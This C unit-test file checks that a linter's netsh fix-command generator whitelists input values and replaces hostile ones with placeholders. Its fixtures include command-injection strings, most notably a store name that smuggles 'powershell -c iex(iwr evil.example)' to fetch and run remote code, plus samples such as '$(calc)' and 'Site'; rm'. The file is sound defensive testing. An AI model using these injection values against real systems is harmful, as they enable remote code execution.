/*
 * Fix commands (linter/fixcmd.c): every value from an input passes a
 * whitelist before it is written into a command, hostile values become
 * placeholders with a note, the AppId is quoted for PowerShell, and what
 * netsh cannot carry over is said.
 */
#include <string.h>

#include "rule.h"
#include "unit.h"

void suite_fixcmd(void);

static const struct rule fix_rule = { "SCL999", "test", "test", SEV_ERROR, 0, NULL };

struct fx {
	struct model m;
	struct diag_list d;
	struct srcloc l;
};

static void fx_init(struct fx *f)
{
	model_init(&f->m);
	diag_list_init(&f->d);
	f->l = (struct srcloc){ model_intern_file(&f->m, "netsh.txt"), 1, 0, NULL };
	f->d.rule = &fix_rule;
}

static void fx_release(struct fx *f)
{
	f->d.rule = NULL;
	diag_list_release(&f->d);
	model_release(&f->m);
}

static struct binding_view *add_view(struct fx *f, enum endpoint_kind kind, const char *ep)
{
	struct binding_view *v = model_add_binding_view(&f->m, kind, ep, ORIGIN_NETSH, &f->l,
							&f->d, "t");
	CU_ASSERT_PTR_NOT_NULL_FATAL(v);
	binding_view_set(&f->m, v, BF_CERT_HASH, &f->l, NULL,
			 "846762724f99a530cae257c8d18ceafb46723cd2", 0, 1);
	binding_view_set(&f->m, v, BF_APPID, &f->l, NULL, IIS_APPID, 0, 1);
	return v;
}

/* Characters that mean something to cmd or PowerShell. */
static int has_shell_syntax(const char *s)
{
	return strpbrk(s, "&|;`$'\r\n") != NULL || strstr(s, "$(") != NULL;
}

static void test_update_command(void)
{
	struct fx f;
	fx_init(&f);
	struct binding_view *v = add_view(&f, EP_HOSTNAMEPORT, "pki.example.org:443");
	binding_view_set(&f.m, v, BF_CERT_STORE, &f.l, NULL, NULL, 0, 1);
	binding_view_set(&f.m, v, BF_VERIFY_REVOCATION, &f.l, NULL, NULL, 1, 1);   /* default */
	binding_view_set(&f.m, v, BF_USAGE_CHECK, &f.l, NULL, NULL, 0, 1);         /* not default */
	binding_view_set(&f.m, v, BF_NEGOTIATE_CLIENT_CERT, &f.l, NULL, NULL, 1, 1);
	binding_view_set(&f.m, v, BF_URL_TIMEOUT, &f.l, NULL, NULL, 15000, 1);
	const struct httpsys_binding *b = model_find_binding(&f.m, "hostnameport:pki.example.org:443");
	struct diag *d = diag_emit(&f.d, SEV_ERROR, &f.l, NULL, "x");
	fix_binding_update1(&f.d, d, b, BF_CTL_STORE, "ClientAuthIssuer");
	CU_ASSERT_STRING_EQUAL(d->fix,
			       "netsh http update sslcert hostnameport=pki.example.org:443 certstorename=MY "
			       "certhash=846762724f99a530cae257c8d18ceafb46723cd2 "
			       "appid=\"{4dc3e181-e14b-4a21-b022-59fc669b0914}\" usagecheck=disable "
			       "urlretrievaltimeout=15000 sslctlstorename=ClientAuthIssuer "
			       "clientcertnegotiation=enable");
	CU_ASSERT_EQUAL(d->fix_shell, FIX_SHELL_ANY);
	CU_ASSERT_EQUAL(d->nr_related, 0);
	fx_release(&f);
}

static void test_hostile_values(void)
{
	struct fx f;
	fx_init(&f);
	/*
	 * the security trial's store name; its host name "a&calc.exe&rem" no
	 * longer gets past the parser (test_model), so an IDN in Unicode form
	 * stands for a host name that is valid but not fit for a command line
	 */
	struct binding_view *v = add_view(&f, EP_HOSTNAMEPORT, "b\303\274cher.example:443");
	const char *store = "My\" & powershell -c iex(iwr evil.example) & rem \"";
	struct srcloc at = f.l;
	at.line = 4;
	binding_view_set(&f.m, v, BF_CERT_STORE, &at, store, store, 0, 1);
	at.line = 11;
	binding_view_set(&f.m, v, BF_CTL_STORE, &at, "$(calc)", "$(calc)", 0, 1);
	const struct httpsys_binding *b = model_find_binding(&f.m, "hostnameport:b\303\274cher.example:443");
	CU_ASSERT_PTR_NOT_NULL_FATAL(b);
	struct diag *d = diag_emit(&f.d, SEV_ERROR, &f.l, NULL, "x");
	fix_binding_update1(&f.d, d, b, BF_NEGOTIATE_CLIENT_CERT, "enable");
	CU_ASSERT_FALSE(has_shell_syntax(d->fix));
	CU_ASSERT_PTR_NULL(strstr(d->fix, "calc"));
	CU_ASSERT_PTR_NULL(strstr(d->fix, "powershell"));
	CU_ASSERT_PTR_NOT_NULL(strstr(d->fix, "hostnameport=<host:port> certstorename=<store> "));
	CU_ASSERT_PTR_NOT_NULL(strstr(d->fix, "sslctlstorename=<store>"));
	/* one note per placeholder, at the value's line, without repeating it */
	CU_ASSERT_EQUAL_FATAL(d->nr_related, 3);
	CU_ASSERT_EQUAL(d->related[0].loc.line, 1);
	CU_ASSERT_EQUAL(d->related[1].loc.line, 4);
	CU_ASSERT_EQUAL(d->related[2].loc.line, 11);
	for (size_t i = 0; i < d->nr_related; i++) {
		CU_ASSERT_PTR_NOT_NULL(strstr(d->related[i].message, "fill it in"));
		CU_ASSERT_FALSE(has_shell_syntax(d->related[i].message));
	}
	fx_release(&f);
}

static void test_whitelists(void)
{
	static const struct {
		enum fix_arg_kind kind;
		const char *value;
		int ok;
	} cases[] = {
		{ FIXARG_HOST, "pki.example.org", 1 },
		{ FIXARG_HOST, "*.example.org", 1 },
		{ FIXARG_HOST, "*", 1 },
		{ FIXARG_HOST, "a.*", 0 },
		{ FIXARG_HOST, "xn--bcher-kva.example", 1 },
		{ FIXARG_HOST, "-bad.example.org", 0 },
		{ FIXARG_HOST, "a..b", 0 },
		{ FIXARG_HOST, "a b", 0 },
		{ FIXARG_HOST, "a&calc", 0 },
		{ FIXARG_HOST, "b\303\274cher.example", 0 },      /* IDN must be in xn-- form */
		{ FIXARG_STORE, "WebHosting", 1 },
		{ FIXARG_STORE, "Remote Desktop", 1 },
		{ FIXARG_STORE, " My", 0 },
		{ FIXARG_STORE, "My\"", 0 },
		{ FIXARG_STORE, "My$env", 0 },
		{ FIXARG_SITE, "Default Web Site", 1 },
		{ FIXARG_SITE, "Site'; rm", 0 },
		{ FIXARG_SITE, "Site\xe2\x80\x99s", 0 },              /* a PowerShell quote (U+2019) */
		{ FIXARG_BINDING_INFO, "*:443:www.example.org", 1 },
		{ FIXARG_BINDING_INFO, "[::1]:443:", 1 },
		{ FIXARG_BINDING_INFO, "*:443:a\"b", 0 },
		{ FIXARG_HASH, "846762724f99a530cae257c8d18ceafb46723cd2", 1 },
		{ FIXARG_HASH, "846762724f99a530cae257c8d18ceafb46723cd", 0 },
		{ FIXARG_GUID, "{4dc3e181-e14b-4a21-b022-59fc669b0914}", 1 },
		{ FIXARG_GUID, "{4dc3e181-e14b-4a21-b022-59fc669b091}", 0 },
		{ FIXARG_NUMBER, "15000", 1 },
		{ FIXARG_NUMBER, "1;2", 0 },
		{ FIXARG_SWITCH, "enable", 1 },
		{ FIXARG_SWITCH, "enabled", 0 },
		{ FIXARG_ENDPOINT_IPPORT, "0.0.0.0:443", 1 },
		{ FIXARG_ENDPOINT_IPPORT, "[::]:443", 1 },
		{ FIXARG_ENDPOINT_IPPORT, "0.0.0.0:44a", 0 },
		{ FIXARG_ENDPOINT_HOSTNAMEPORT, "pki.example.org:443", 1 },
		{ FIXARG_ENDPOINT_HOSTNAMEPORT, "a|b:443", 0 },
		{ FIXARG_ENDPOINT_CCS, "443", 1 },
		{ FIXARG_ENDPOINT_CCS, "0.0.0.0:443", 1 },
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		int ok = fix_arg_ok(cases[i].kind, cases[i].value);
		if (ok != cases[i].ok)
			CU_FAIL(cases[i].value);
	}
	CU_ASSERT_FALSE(fix_arg_ok(FIXARG_HOST, NULL));
}

static void test_quoting_and_placeholders(void)
{
	struct fx f;
	fx_init(&f);
	struct diag *d = diag_emit(&f.d, SEV_ERROR, &f.l, NULL, "x");
	CU_ASSERT_STRING_EQUAL(fix_arg(&f.d, d, FIXARG_GUID, IIS_APPID, NULL),
			       "\"" IIS_APPID "\"");
	CU_ASSERT_STRING_EQUAL(fix_arg(&f.d, d, FIXARG_STORE, "Remote Desktop", &f.l),
			       "\"Remote Desktop\"");
	CU_ASSERT_STRING_EQUAL(fix_raw(&f.d, d, FIXARG_STORE, "Remote Desktop", &f.l),
			       "Remote Desktop");
	CU_ASSERT_EQUAL(d->nr_related, 0);
	CU_ASSERT_STRING_EQUAL(fix_arg(&f.d, d, FIXARG_SITE, "x'y", &f.l), "<site name>");
	CU_ASSERT_EQUAL(d->nr_related, 1);
	/* the GUID placeholder keeps the quotes PowerShell needs once it is filled in */
	CU_ASSERT_STRING_EQUAL(fix_arg(&f.d, d, FIXARG_GUID, "{not-a-guid}", NULL), "\"{<appid>}\"");
	/* no value, no note: the placeholder stands for what the snapshot does not know */
	CU_ASSERT_STRING_EQUAL(fix_arg(&f.d, d, FIXARG_HASH, NULL, &f.l), "<certhash>");
	CU_ASSERT_EQUAL(d->nr_related, 1);
	fx_release(&f);
}

static void test_lost_settings(void)
{
	struct fx f;
	fx_init(&f);
	struct binding_view *v = add_view(&f, EP_IPPORT, "0.0.0.0:443");
	struct srcloc at = f.l;
	at.line = 30;
	binding_view_set(&f.m, v, BF_ENABLE_CACHE_CLIENT_HELLO, &at, "Set", NULL, 1, 1);
	at.line = 31;
	binding_view_add_extra(&f.m, v, "Some Future Setting", "Enabled", &at);
	const struct httpsys_binding *b = model_find_binding(&f.m, "ipport:0.0.0.0:443");
	struct diag *d = diag_emit(&f.d, SEV_ERROR, &f.l, NULL, "x");
	fix_binding_update1(&f.d, d, b, BF_CERT_HASH, "<renewed-certhash>");
	CU_ASSERT_STRING_EQUAL(d->fix,
			       "netsh http update sslcert ipport=0.0.0.0:443 certstorename=MY "
			       "certhash=<renewed-certhash> appid=\"" IIS_APPID "\"");
	CU_ASSERT_EQUAL_FATAL(d->nr_related, 2);
	CU_ASSERT_EQUAL(d->related[0].loc.line, 30);
	CU_ASSERT_PTR_NOT_NULL(strstr(d->related[0].message,
				      "Enable Caching Client Hello is Enabled here, and netsh has no parameter"));
	CU_ASSERT_PTR_NOT_NULL(strstr(d->related[0].message, "bit 0x8000 of DefaultFlags"));
	CU_ASSERT_EQUAL(d->related[1].loc.line, 31);
	CU_ASSERT_PTR_NOT_NULL(strstr(d->related[1].message, "does not carry it over"));
	fx_release(&f);
}

void suite_fixcmd(void)
{
	ADD_SUITE("fixcmd",
		  { "update command carries every setting", test_update_command },
		  { "hostile values become placeholders", test_hostile_values },
		  { "whitelists", test_whitelists },
		  { "quoting and placeholders", test_quoting_and_placeholders },
		  { "settings netsh cannot carry over", test_lost_settings });
}
